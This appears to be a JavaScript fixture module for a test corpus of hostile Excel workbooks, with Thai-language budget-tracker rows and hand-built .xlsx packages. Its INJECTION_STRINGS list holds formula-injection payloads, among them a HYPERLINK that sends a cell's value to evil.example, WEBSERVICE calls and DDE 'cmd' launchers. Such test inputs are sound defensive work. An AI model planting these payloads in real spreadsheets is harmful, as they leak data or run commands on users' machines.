// Shared parts of the hostile-workbook corpus: tracker headers and rows, exceljs books, hand-made .xlsx packages.
"use strict";
const ExcelJS = require("exceljs");
const JSZip = require("jszip");

/** Fixed timestamps so the corpus has the same content on every run. */
const FIXED_DATE = new Date(Date.UTC(2026, 10, 1));

const HEADERS_TH = [
  "รหัสโครงการ",
  "ชื่อโครงการ",
  "หน่วยงาน",
  "ประเภทโครงการ",
  "ปีงบประมาณ",
  "รหัสงบประมาณ",
  "งบประมาณ (บาท)",
  "ยุทธศาสตร์ชาติ",
  "แผนแม่บทฯ",
  "แผนย่อย",
  "ความก้าวหน้า ไตรมาส 1 (%)",
  "เบิกจ่าย ไตรมาส 1 (บาท)",
  "ปัญหาอุปสรรค/หมายเหตุ",
];

const HEADERS_EN = [
  "Project ID",
  "Project name",
  "Department",
  "Project type",
  "Fiscal year",
  "Budget code",
  "Budget (THB)",
  "National strategy",
  "Master plan",
  "Sub-plan",
  "Q1 progress (%)",
  "Q1 disbursed (THB)",
  "Issues / remarks",
];

/** Column letters of HEADERS_TH / HEADERS_EN, for hand-written sheet XML. */
const COLS = "ABCDEFGHIJKLM".split("");

/** A 20-digit budget code derived from n. */
function budgetCode(n) {
  return String(10000000000000000000n + BigInt(n));
}

/** A valid DOE project row of FY2569 in header order; `overrides` by header index. */
function validRow(n, overrides = {}) {
  const row = [
    `H-${n}`,
    `โครงการทดสอบ ${n}`,
    "DOE",
    "โครงการประจำปีงบประมาณ",
    2569,
    budgetCode(n),
    1000000,
    3,
    11,
    "1104",
    40,
    100000,
    null,
  ];
  for (const [i, v] of Object.entries(overrides)) row[Number(i)] = v;
  return row;
}

function book() {
  const wb = new ExcelJS.Workbook();
  wb.creator = "make-hostile";
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  return wb;
}

/** XML text escaping for hand-written parts; CR as a character reference, since parsers turn a raw CR into LF. */
function esc(text) {
  return String(text)
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;")
    .replace(/\r/g, "&#13;");
}

/** One cell of hand-written sheet XML: numbers as numbers, strings inline, `{ xml }` verbatim. */
function cellXml(ref, value) {
  if (value === null || value === undefined) return "";
  if (typeof value === "object" && value.xml !== undefined) return value.xml.replace("{r}", ref);
  if (typeof value === "number") return `<c r="${ref}"><v>${value}</v></c>`;
  if (typeof value === "boolean") return `<c r="${ref}" t="b"><v>${value ? 1 : 0}</v></c>`;
  return `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${esc(value)}</t></is></c>`;
}

/** Column number (1-based) to letters. */
function letters(column) {
  let n = column;
  let out = "";
  while (n > 0) {
    out = String.fromCharCode(65 + ((n - 1) % 26)) + out;
    n = Math.floor((n - 1) / 26);
  }
  return out;
}

/** Sheet XML from rows of values (row 1 first). `extra` goes after sheetData (merges, etc.). */
function sheetXml(rows, { extra = "", prolog = "", dimension = null } = {}) {
  const body = rows
    .map((cells, r) => {
      const inner = cells.map((v, c) => cellXml(`${letters(c + 1)}${r + 1}`, v)).join("");
      return `<row r="${r + 1}">${inner}</row>`;
    })
    .join("");
  const dim = dimension ? `<dimension ref="${dimension}"/>` : "";
  return (
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${prolog}` +
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${dim}<sheetData>${body}</sheetData>${extra}</worksheet>`
  );
}

const MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships";

/**
 * A minimal .xlsx package written by hand. sheets: [{ name, xml, path?, state? }]. Options:
 * sharedStrings (XML text), workbookPr (attributes), extraFiles ({ path: content }), omit (paths).
 */
async function handMadePackage(sheets, opts = {}) {
  const zip = new JSZip();
  const date = FIXED_DATE;
  const paths = sheets.map((s, i) => s.path ?? `xl/worksheets/sheet${i + 1}.xml`);
  const overrides = paths
    .map(
      (p) =>
        `<Override PartName="/${p}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`
    )
    .join("");
  const ssOverride = opts.sharedStrings
    ? `<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>`
    : "";
  const files = {
    "[Content_Types].xml":
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
      `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
      `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${overrides}${ssOverride}</Types>`,
    "_rels/.rels":
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PKG_REL_NS}">` +
      `<Relationship Id="rId1" Type="${REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    "xl/workbook.xml":
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="${MAIN_NS}" xmlns:r="${REL_NS}"><workbookPr ${opts.workbookPr ?? ""}/><sheets>` +
      sheets
        .map(
          (s, i) =>
            `<sheet name="${esc(s.name)}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`
        )
        .join("") +
      `</sheets></workbook>`,
    "xl/_rels/workbook.xml.rels":
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PKG_REL_NS}">` +
      paths
        .map(
          (p, i) =>
            `<Relationship Id="rId${i + 1}" Type="${REL_NS}/worksheet" Target="${p.replace(/^xl\//, "")}"/>`
        )
        .join("") +
      (opts.sharedStrings
        ? `<Relationship Id="rIdSS" Type="${REL_NS}/sharedStrings" Target="sharedStrings.xml"/>`
        : "") +
      `</Relationships>`,
  };
  sheets.forEach((s, i) => (files[paths[i]] = s.xml));
  if (opts.sharedStrings) files["xl/sharedStrings.xml"] = opts.sharedStrings;
  Object.assign(files, opts.extraFiles ?? {});
  for (const path of opts.omit ?? []) delete files[path];
  for (const [path, content] of Object.entries(files))
    zip.file(path, content, { date, createFolders: false });
  return zip.generateAsync({
    type: "nodebuffer",
    compression: "DEFLATE",
    compressionOptions: { level: 9 },
  });
}

/** Strings a spreadsheet would run as formulas if they were written as formulas (CSV/formula injection). */
const INJECTION_STRINGS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  '=WEBSERVICE("http://evil.example")',
];

/** A tracker sheet's rows: the Thai header then `rows`. */
function trackerRows(rows, headers = HEADERS_TH) {
  return [headers, ...rows];
}

module.exports = {
  FIXED_DATE,
  INJECTION_STRINGS,
  HEADERS_TH,
  HEADERS_EN,
  COLS,
  MAIN_NS,
  budgetCode,
  validRow,
  book,
  esc,
  letters,
  cellXml,
  sheetXml,
  handMadePackage,
  trackerRows,
};
